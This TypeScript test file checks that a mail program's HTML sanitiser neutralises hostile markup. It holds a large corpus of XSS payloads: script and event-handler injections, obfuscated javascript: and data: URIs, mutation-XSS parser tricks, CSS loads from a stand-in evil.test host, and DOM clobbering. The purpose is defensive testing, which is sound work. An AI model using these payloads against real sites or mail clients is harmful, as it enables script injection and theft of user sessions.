import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import {
  html as standard,
  parse,
  parseFragment,
  serialize,
  type DefaultTreeAdapterTypes,
} from 'parse5';
import { repetitions } from '@postroom/testing/repetitions';
import { sanitiseHtml } from './sanitise-html.js';

/*
 * Attacks by mail, judged as a browser would: the output of the sanitiser is read by a
 * parser of the HTML standard, which is not the one the sanitiser reads with (where two parsers
 * differ, mutation XSS lives), and nothing but an allow-list may be in the tree.
 */
const run = 'alert(1)';
const image = `<img src=x onerror=${run}>`;

const scripts = [
  `<script>${run}</script>`,
  `<script/src=//evil.test/x.js></script>`,
  `<script\n>${run}</script\n>`,
  `<scr\0ipt>${run}</scr\0ipt>`,
  `<<script>${run}//<</script>`,
  `<script>${run}`,
  `<script><!--\n--><script>${run}</script>`,
  `<noscript><p title="</noscript>${image}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script xlink:href=data:,${run} />`,
  `<iframe srcdoc="&lt;script>${run}&lt;/script>">`,
  `<template><script>${run}</script></template>`,
  `<template shadowrootmode=open>${image}</template>`,
  `</script><script>${run}</script>`,
  `"><script>${run}</script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
];

const handlers = [
  image,
  `<img/src=x/onerror=${run}>`,
  `<img src=x\nonerror\n=\n"${run}">`,
  `<img src="x\`\` onerror=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<body onpageshow=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<marquee onstart=${run}>`,
  `<div onpointerrawupdate=${run} ONCLICK=${run}>x</div>`,
  `<a href=x onclick\0=${run}>x</a>`,
  `<p/onclick=${run}/style=x>x</p>`,
  `<p style="color:red" onmouseover="${run}">x</p>`,
  `<p style='color:red"onmouseover="${run}'>x</p>`,
  `<p title='" onmouseover="${run}'>x</p>`,
  `<b title="&quot; onmouseover=&quot;${run}">x</b>`,
  `<img alt="\`onerror=${run}\`" src="cid:x">`,
];

const links = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' \x01\x02javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&NewLine;script&colon;alert(1)',
  'java&Tab;script:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a alert(1)',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#97&#108&#101&#114&#116(1)',
  '\u00a0javascript:alert(1)',
  '\ufeffjavascript:alert(1)',
  'javascript://%0aalert(1)',
  'view-source:javascript:alert(1)',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'DATA:text/html;base64,PHNjcmlwdD4=',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://evil.test/x',
  'filesystem:https://evil.test/x',
  'file:///etc/passwd',
  'ms-msdt:/id',
  '//evil.test/x',
  '\\\\evil.test\\x',
  '/settings/api/session',
  '#javascript:alert(1)',
].flatMap((url) => [
  `<a href="${url}">x</a>`,
  `<area href="${url}">`,
  `<img src="${url}">`,
  `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  `<math><mi xlink:href="${url}">x</mi></math>`,
  `<form action="${url}"><button formaction="${url}">x</button></form>`,
  `<iframe src="${url}"></iframe><embed src="${url}"><object data="${url}"></object>`,
  `<table background="${url}"><tr><td background="${url}">x</td></tr></table>`,
  `<link rel=stylesheet href="${url}"><base href="${url}">`,
  `<meta http-equiv=refresh content="0;url=${url}">`,
  `<video src="${url}" poster="${url}"></video><input type=image src="${url}">`,
  `<img srcset="${url} 1x" longdesc="${url}" usemap="${url}"><blockquote cite="${url}">x</blockquote>`,
]);

/** Sources of which the browser's parser and others make different trees. */
const mutations = [
  `<math><mtext><table><mglyph><style><!--</style>${image}-->`,
  `<math><mtext><table><mglyph><style><math>${image}</style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math>${image}`,
  `<svg></p><style><a id="</style>${image}">`,
  `<svg><style><!--</style>${image}--></svg>`,
  `<svg><desc><table><thead><style></desc>${image}</style></thead></table>`,
  `<svg><foreignObject><style>*{}</style>${image}</foreignObject></svg>`,
  `<svg><title><style><img title="</style>${image}"></title></svg>`,
  `<math><annotation-xml encoding="text/html"><style>${image}</style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><p><style><!--</p>${image}--></style>`,
  `<noscript><style></noscript>${image}</style>`,
  `<noembed><p title="</noembed>${image}"></noembed>`,
  `<noframes><p title="</noframes>${image}"></noframes>`,
  `<textarea><p title="</textarea>${image}"></textarea>`,
  `<title><p title="</title>${image}"></title>`,
  `<xmp><p title="</xmp>${image}"></xmp>`,
  `<plaintext>${image}`,
  `<listing>&lt;img onerror=${run} src=x&gt;</listing>`,
  `<select><template><style><!--</style>${image}--></template></select>`,
  `<select><option><style></option></select>${image}</style>`,
  `<table><caption><svg><style></caption></table>${image}</style></svg>`,
  `<a><table><a><style>${image}</style></a></table></a>`,
  `<!--><p>--!>${image}-->`,
  `<!--!>${image}<!---->`,
  `<!-->${image}-->`,
  `<!--->${image}-->`,
  `<!--[if mso]>${image}<![endif]-->`,
  `<![if !mso]>${image}<![endif]>`,
  `<!DOCTYPE x [<!ENTITY e "${image}">]>&e;`,
  `<?xml-stylesheet href="javascript:${run}"?><?php ${image} ?>`,
  `<![CDATA[<!--]]>${image}-->`,
  `<svg><![CDATA[</svg>${image}]]>`,
  `</p>${image}</br ${image}>`,
  `<p></p ${image}>`,
  `<div x="${'"'.repeat(3)}>${image}`,
  `<${'a'.repeat(300)}>${image}</${'a'.repeat(300)}>`,
  `<image src=x onerror=${run}>`,
  `<isindex type=image src=x onerror=${run}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${run}&amp;gt;`,
  `<p>&#0;&#x110000;&#xD800;&notin&lt</p>`,
];

const styles = [
  'background:url(https://evil.test/x)',
  'background:u\\72l(https://evil.test/x)',
  'background:url(javascript:alert(1))',
  'background-image:url("data:image/svg+xml,<svg onload=alert(1)>")',
  'list-style:url(https://evil.test/x)',
  'content:url(https://evil.test/x)',
  'cursor:url(https://evil.test/x),auto',
  'border-image:url(https://evil.test/x) 1',
  'width:expression(alert(1))',
  'width:exp/**/ression(alert(1))',
  'width:&#101;xpression(alert(1))',
  'behavior:url(x.htc)',
  '-moz-binding:url(//evil.test/x.xml#a)',
  'position:fixed;inset:0;z-index:2147483647',
  'position:absolute;top:-999px;left:0',
  'margin-top:-9999px',
  'transform:scale(99)',
  'animation:x 1s;animation-name:y',
  'filter:progid:DXImageTransform.Microsoft.Alpha()',
  'color:var(--x,url(//evil.test))',
  'font-family:"</style><script>alert(1)</script>"',
  "font-family:'x';}@import '//evil.test/x.css';{",
  'color:red;/*" onclick="alert(1)*/',
  'width:calc(100vw * 99)',
].flatMap((style) => [
  `<p style="${style.replaceAll('"', '&quot;')}">x</p>`,
  `<style>*{${style}}</style>`,
  `<svg><style>*{${style}}</style></svg>`,
]);

/** Elements that a page's own scripts would find in place of their own. */
const clobbering = [
  '<form id=document><input name=cookie></form>',
  '<img name=body><img id=createElement>',
  '<a id=config><a id=config name=url href="https://evil.test">x</a>',
  '<iframe name=top srcdoc="x"></iframe>',
  '<p id=__proto__ class="modal fixed" slot=x is=x-y part=z>x</p>',
  '<div data-remote-src="javascript:alert(1)" data-turbo data-action="click->x">x</div>',
  '<p contenteditable accesskey=x tabindex=1 draggable=true popover popovertarget=x>x</p>',
  '<label for=password>x</label><output form=x>x</output>',
];

/** Attributes and elements that mail uses, in the hands of an attacker. */
const disguises = [
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src="x" ONERROR="alert(1)" alt=`">',
  '<img/src/onerror=alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img src="cid:x" onload=alert(1) style="x" srcset="javascript:alert(1)">',
  '<img data-remote-src="javascript:alert(1)">',
  '<body onload=alert(1)><p onclick="alert(1)">x</p>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="/settings/api/session" id="x" name="y" class="z" target=_self>x</a>',
  '<a href="https://ok.test/" onmouseover=alert(1) ping="https://evil.test">x</a>',
  '<form action="https://evil.test"><input name=a autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<style>@import "https://evil.test/x.css"; body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.test/x.png)">x</p>',
  '<p style="background-image:image-set(\'https://evil.test/x\' 1x);color:var(--x)">x</p>',
  '<p style="color:red&quot; onclick=&quot;alert(1)">x</p>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.test/x">x</td></tr></table>',
  '<video poster="javascript:alert(1)"><source onerror=alert(1) src=x></video><audio src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]><?xml version="1.0"?><x onclick=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<script>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.test/">',
  '<p style="width:expression(alert(1));behavior:url(x.htc)">x</p>',
  '<p style="-moz-binding:url(https://evil.test/x.xml#a);color:r\\65 d">x</p>',
  '<p style="position:fixed;top:0;left:0;z-index:9999;margin-top:-999px">x</p>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<marquee onstart=alert(1)>x</marquee><details open ontoggle=alert(1)>x</details>',
  '<!--[if IE]><script>alert(1)</script><![endif]--><!--><img src=x onerror=alert(1)>-->',
  '\0<scr\0ipt>alert(1)</scr\0ipt>',
];

const payloads = [
  ...scripts,
  ...handlers,
  ...links,
  ...mutations,
  ...styles,
  ...clobbering,
  ...disguises,
];

const elements =
  /^(?:a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|data|dd|del|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hgroup|hr|i|img|ins|kbd|li|main|mark|menu|nav|ol|p|pre|q|rb|rp|rt|rtc|ruby|s|samp|section|small|span|strike|strong|sub|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/;
const inert =
  /^(?:align|alt|bgcolor|border|cellpadding|cellspacing|color|colspan|dir|face|height|lang|nowrap|reversed|rowspan|size|start|title|type|valign|width)$/;
const judged: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:\/\/|mailto:|tel:)[^\s\p{Cc}]*$/u,
  src: /^(?:cid:[^\s\p{Cc}]*|data:image\/(?:png|gif|jpe?g|webp|bmp|avif);base64,[\w+/=]*)$/u,
  'data-remote-src': /^https?:\/\/[^\s\p{Cc}]*$/u,
  style:
    /^(?!.*(?:url|expression|import|position|binding|behavior|image|var\(|calc|\\|@|:\s*-|\/\*))/i,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
};

type Node = DefaultTreeAdapterTypes.ChildNode;

/** Everything in a tree that is not known to be harmless. */
function dangersIn(nodes: readonly Node[]): string[] {
  return nodes.flatMap((node) => {
    if (node.nodeName === '#text') return [];
    if (!('attrs' in node)) return [node.nodeName];
    const isHtml = node.namespaceURI === standard.NS.HTML;
    const frame = /^(?:html|head|body)$/.test(node.tagName) && node.attrs.length === 0;
    const own = isHtml && (frame || elements.test(node.tagName)) ? [] : [node.tagName];
    const attributes = node.attrs
      .filter(({ name, value }) => !(judged[name]?.test(value) ?? inert.test(name)))
      .map(({ name, value }) => `${node.tagName} ${name}=${value}`);
    return [...own, ...attributes, ...dangersIn(node.childNodes)];
  });
}

/** As the page of a mail program holds it: within an element, in a document of its own, in a table. */
function dangers(html: string): string[] {
  const places = [parseFragment(html), parseFragment(`<div>${html}</div>`), parse(html)];
  return places.flatMap(({ childNodes }) => dangersIn(childNodes));
}

describe('HTML of an attacker', () => {
  it('is a danger before it is sanitised, so that the judge is no rubber stamp', () => {
    const harmless = payloads.filter((payload) => dangers(payload).length === 0);
    // Sources that are text, a safe link or an odd element to the standard's parser already.
    expect(harmless.length).toBeLessThan(payloads.length / 10);
  });

  it.each(payloads)('does nothing once sanitised: %j', (payload) => {
    const around = [
      payload,
      `<table><tr><td>${payload}`,
      `<p title="${payload}">`,
      `'">${payload}`,
    ];
    for (const source of [...around, `<svg>${payload}`, `<math><mtext>${payload}`]) {
      const { html } = sanitiseHtml(source);
      expect(dangers(html)).toEqual([]);
      // Read and written again and again, as editors do: no mutation lies in it.
      const once = serialize(parseFragment(html));
      expect(dangers(once)).toEqual([]);
      expect(dangers(serialize(parseFragment(once)))).toEqual([]);
    }
  });

  it.each(disguises)('is not changed by sanitising it twice: %j', (payload) => {
    for (const source of [payload, `<table><tr><td>${payload}`, `"'>${payload}`]) {
      const { html } = sanitiseHtml(source);
      expect(sanitiseHtml(html).html).toBe(html);
    }
  });

  it('does nothing in any mixture', () => {
    const pieces = payloads.flatMap((payload) => [payload, ...payload.split(/(?=[<>"'])/)]);
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 12 }), (mixture) => {
        const { html } = sanitiseHtml(mixture.join(''));
        expect(dangers(html)).toEqual([]);
        expect(dangers(serialize(parseFragment(html)))).toEqual([]);
      }),
      { numRuns: repetitions(500) },
    );
  });
});
